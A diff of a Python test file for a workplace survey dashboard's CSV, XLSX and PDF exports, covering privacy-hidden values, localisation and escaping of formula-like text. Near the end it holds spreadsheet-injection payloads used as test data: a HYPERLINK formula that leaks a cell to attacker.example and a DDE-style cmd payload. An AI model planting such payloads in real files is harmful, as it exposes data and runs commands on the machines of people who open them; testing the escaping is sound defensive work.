@@ -10,7 +10,8 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from questionnaire.aggregates import campaign_dashboard
-from questionnaire.hr import exports
+from questionnaire.hr import exports, report
+from questionnaire.hr import workbook as workbook_module
 from questionnaire.privacy import COMPLEMENTARY, TOO_FEW, Hidden
 
 from .aggregates_factory import add_responses, closed_campaign
@@ -28,66 +29,83 @@ def dashboard(org_a, departments_a, today):
         yield campaign_dashboard(campaign, today=today)
 
 
-def _csv_rows(dashboard):
-    text = exports.dashboard_csv(dashboard).decode("utf-8-sig")
-    return {
-        (r["Table"], r["Group"], r["Measure"]): r["Value"]
-        for r in csv.DictReader(io.StringIO(text))
-    }
+def _csv_rows(dashboard, delimiter=","):
+    """The CSV's rows by (table, group, measure code): (value, band, why hidden)."""
+    text = exports.dashboard_csv(dashboard).decode("utf-8")
+    assert text.startswith("\ufeff")
+    reader = csv.reader(io.StringIO(text[1:]), delimiter=delimiter)
+    next(reader)
+    return {(r[0], r[1], r[2]): (r[5], r[6], r[7]) for r in reader}
 
 
-def test_the_csv_has_the_dashboards_numbers(dashboard):
+def test_the_csv_is_one_tidy_table_with_the_dashboards_numbers(dashboard):
     rows = _csv_rows(dashboard)
 
-    assert rows[("Responses", "Care", "Responses")] == "7"
-    assert rows[("Responses", "Care", "Response rate (%)")] == "35.0"
-    assert rows[("Responses", "Whole organisation", "Responses")] == "15"
-    table = "Scores by department (0 to 100)"
+    assert rows[("participation", "Care", "responses")] == ("7", "", "")
+    assert rows[("participation", "Care", "rate")] == ("35.0", "", "")
+    assert rows[("participation", "Whole organisation", "responses")][0] == "15"
     for group in dashboard.heatmap:
         for column, score in zip(dashboard.heatmap_columns, group.scores, strict=True):
-            written = rows[(table, group.label, column.label)]
+            value, band, hidden = rows[("departments", group.label, column.code)]
             if score.shown:
-                assert float(written) == score.value
+                assert float(value) == score.value and band and not hidden
             else:
-                assert written == (str(score.value) if score.value is not None else "")
-    assert float(rows[("Support by type and source (0 to 100)", "All types", "All sources")]) == (
-        dashboard.overall.value
-    )
+                assert value == "" and hidden == (str(score.value) if score.value else "")
+    overall = rows[("matrix", "Whole organisation", "overall")]
+    assert float(overall[0]) == dashboard.overall.value
 
 
 def test_the_csv_writes_hidden_values_as_their_reason(dashboard):
     rows = _csv_rows(dashboard)
 
-    assert rows[("Responses", "Office", "Responses")] == str(Hidden(TOO_FEW, 5))
-    assert rows[("Responses", "Kitchen", "Responses")] == str(Hidden(COMPLEMENTARY, 5))
+    assert rows[("participation", "Office", "responses")] == ("", "", str(Hidden(TOO_FEW, 5)))
+    assert rows[("participation", "Kitchen", "responses")][2] == str(Hidden(COMPLEMENTARY, 5))
     # Two of the eight combined answered about a supervisor.
-    assert rows[
-        ("Scores by department (0 to 100)", "Other departments combined", "Supervisor")
-    ] == str(Hidden(TOO_FEW, 5))
-    assert rows[("Responses", "Other departments combined", "Responses")] == "8"
+    assert rows[("departments", "Other departments combined", "supervisor")][2] == str(
+        Hidden(TOO_FEW, 5)
+    )
+    assert rows[("participation", "Other departments combined", "responses")][0] == "8"
 
 
 def test_the_xlsx_has_the_same_tables_with_numbers_as_numbers(dashboard):
-    workbook = load_workbook(io.BytesIO(exports.dashboard_xlsx(dashboard)))
+    workbook = load_workbook(io.BytesIO(workbook_module.dashboard_workbook(dashboard)))
 
-    responses = workbook["Responses"]
-    assert [c.value for c in responses[2]] == [
-        "Group",
-        "Responses",
-        "Headcount",
-        "Response rate (%)",
-    ]
-    by_group = {r[0].value: [c.value for c in r[1:]] for r in responses.iter_rows(min_row=3)}
-    assert by_group["Care"] == [7, 20, 35.0]
-    assert by_group["Office"][0] == str(Hidden(TOO_FEW, 5))
-    assert by_group["Whole organisation"][0] == 15
-    scores = workbook["Scores by department (0 to 100)"]
+    assert workbook.sheetnames[0] == "about" and "data" in workbook.sheetnames
+    responses = workbook["participation"]
+    assert responses["A1"].value == "Participation by group"
+    assert [c.value for c in responses[2]] == ["Group", "Responses", "Headcount", "Response rate"]
+    by_group = {r[0].value: r[1:] for r in responses.iter_rows(min_row=3) if r[0].value}
+    assert [c.value for c in by_group["Care"]] == [7, 20, 35.0]
+    assert [c.number_format for c in by_group["Care"]] == ["0", "0", '0.0"%"']
+    assert by_group["Office"][0].value == Hidden(TOO_FEW, 5).short
+    assert responses.freeze_panes == "B3"
+    scores = workbook["departments"]
     header = [c.value for c in scores[2]]
     care_row = next(r for r in scores.iter_rows(min_row=3) if r[0].value == "Care")
-    care = dict(zip(header, (c.value for c in care_row), strict=True))
-    assert care["Colleagues"] == row_score(dashboard, "Care", "colleagues")
-    assert not isinstance(care["Colleagues"], str)
-    assert "About" in workbook.sheetnames
+    care = dict(zip(header, care_row, strict=True))
+    assert care["Colleagues"].value == row_score(dashboard, "Care", "colleagues")
+    assert care["Colleagues"].number_format == "0.0"
+    matrix = workbook["matrix"]
+    assert [c.value for c in matrix[2]][:2] == ["Type of support", "Code"]
+    assert matrix["B3"].value == "material"
+    about = " ".join(str(c.value) for row in workbook["about"].iter_rows() for c in row if c.value)
+    assert "Minimum group size (k) 5" in about
+    assert "37.5–62.5 sometimes" in about
+    assert f"{Hidden(TOO_FEW, 5).short} {Hidden(TOO_FEW, 5)}" in about
+
+
+def test_the_xlsx_data_sheet_is_the_csv(dashboard):
+    workbook = load_workbook(io.BytesIO(workbook_module.dashboard_workbook(dashboard)))
+    sheet = [[c.value for c in row] for row in workbook["data"].iter_rows(min_row=2)]
+    rows = _csv_rows(dashboard)
+    assert len(sheet) == len(rows)
+    for table, group, code, _label, _n, value, band, hidden in sheet:
+        written = rows[(table, group, code)]
+        assert written[1:] == (band or "", hidden or "")
+        if isinstance(value, int | float):
+            assert float(written[0]) == value
+        else:
+            assert written[0] == ("" if value is None else value)
 
 
 def row_score(dashboard, label, code):
@@ -95,14 +113,19 @@ def row_score(dashboard, label, code):
     return next(s.value for s in group.scores if s.code == code)
 
 
+def _pdf_text(pdf) -> str:
+    reader = PdfReader(io.BytesIO(pdf))
+    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())
+
+
 def test_the_pdf_has_the_dashboards_numbers_charts_and_links(dashboard):
     with translation.override("en"):
-        pdf = exports.dashboard_pdf(dashboard, site_url="https://supportcheck.example/")
+        pdf = report.dashboard_pdf(dashboard, site_url="https://supportcheck.example/")
     reader = PdfReader(io.BytesIO(pdf))
-    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
+    text = _pdf_text(pdf)
 
-    assert "Care 7 20 35.0" in text
-    assert "Office fewer than 6 No department given" in text
+    assert "Care 7 20 35.0%" in text
+    assert "Office fewer than 6 – –" in text
     assert "fewer than 6 fewer than 6 responses" in text  # the legend of hidden values
     organisation = next(r for r in dashboard.heatmap if r.label == "Whole organisation")
     assert "Whole organisation " + " ".join(s.display for s in organisation.scores) in text
@@ -114,10 +137,11 @@ def test_the_pdf_has_the_dashboards_numbers_charts_and_links(dashboard):
     ]
     assert settings.FICHE_URL in links
     assert "https://supportcheck.example/fiche/" in links
+    assert "https://supportcheck.example/fiche/#together" in links  # a finding's next step
 
 
 def test_the_pdf_is_tagged_pdf_ua_in_the_reports_language(dashboard):
-    pdf = exports.dashboard_pdf(dashboard)
+    pdf = report.dashboard_pdf(dashboard)
     reader = PdfReader(io.BytesIO(pdf))
     root = reader.trailer["/Root"]
 
@@ -132,32 +156,38 @@ def test_an_open_campaigns_exports_show_only_the_rounded_count(campaign_a, depar
     with translation.override("en"):
         dashboard = campaign_dashboard(campaign_a, today=today)
         rows = _csv_rows(dashboard)
-        pdf_text = "".join(
-            page.extract_text()
-            for page in PdfReader(io.BytesIO(exports.dashboard_pdf(dashboard))).pages
-        )
+        pdf_text = _pdf_text(report.dashboard_pdf(dashboard))
 
-    assert rows[("Responses", "Whole organisation", "Responses")] == "at least 10"
-    assert rows[("Responses", "Care", "Responses")] == "shown once the campaign has closed"
-    assert {table for table, _group, _measure in rows} == {"Responses"}
+    assert rows[("participation", "Whole organisation", "responses")][0] == "at least 10"
+    assert rows[("participation", "Care", "responses")][2] == "shown once the campaign has closed"
+    assert {table for table, _group, _measure in rows} == {"participation"}
     assert "99" not in pdf_text and "12" not in pdf_text
     assert "Scores are shown once the campaign has closed." in pdf_text
 
 
 def test_exports_speak_the_language_they_are_made_in(org_a, departments_a, today):
+    """Dutch and French: semicolons and decimal commas, as Belgian spreadsheets read them."""
     campaign = closed_campaign(org_a, today=today)
-    add_responses(campaign, departments_a[0], 6)
-    add_responses(campaign, departments_a[1], 2)
+    add_responses(campaign, departments_a[0], 6, overall=60.0)
+    add_responses(campaign, departments_a[1], 2, overall=40.0)
     with translation.override("nl"):
-        text = exports.dashboard_csv(campaign_dashboard(campaign, today=today)).decode("utf-8-sig")
+        dashboard = campaign_dashboard(campaign, today=today)
+        text = exports.dashboard_csv(dashboard).decode("utf-8-sig")
+        rows = _csv_rows(dashboard, delimiter=exports.csv_delimiter("nl"))
     with translation.override("fr"):
         dashboard = campaign_dashboard(campaign, today=today)
-        reader = PdfReader(io.BytesIO(exports.dashboard_pdf(dashboard)))
+        reader = PdfReader(io.BytesIO(report.dashboard_pdf(dashboard)))
+        french = _csv_rows(dashboard, delimiter=";")
 
-    assert text.startswith("Tabel,Groep,Onderdeel,Waarde")
-    assert "Antwoorden,Kitchen,Antwoorden,minder dan 6 antwoorden" in text
+    assert text.startswith("Tabel;Groep;")
+    assert rows[("participation", "Kitchen", "responses")][2] == (
+        "minder dan 6 antwoorden (5 naast één die een lezer kan kennen)"
+    )
+    assert dashboard.overall.value == 55.0
+    assert rows[("matrix", "Hele organisatie", "overall")][:2] == ("55,0", "soms")
+    assert french[("matrix", "Toute l'organisation", "overall")][:2] == ("55,0", "parfois")
     assert reader.trailer["/Root"]["/Lang"] == "fr"
-    assert "moins de 6" in reader.pages[0].extract_text()
+    assert "moins de 6" in " ".join(page.extract_text() for page in reader.pages)
 
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
@@ -186,7 +216,7 @@ def test_text_that_looks_like_a_formula_is_exported_as_text(hostile_names):
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in groups
     assert not any(cell.startswith(("=", "+", "-", "@")) for key in rows for cell in key)
 
-    workbook = load_workbook(io.BytesIO(exports.dashboard_xlsx(hostile_names)))
+    workbook = load_workbook(io.BytesIO(workbook_module.dashboard_workbook(hostile_names)))
     cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
     texts = [cell.value for cell in cells if isinstance(cell.value, str)]
     assert "'" + FORMULA in texts
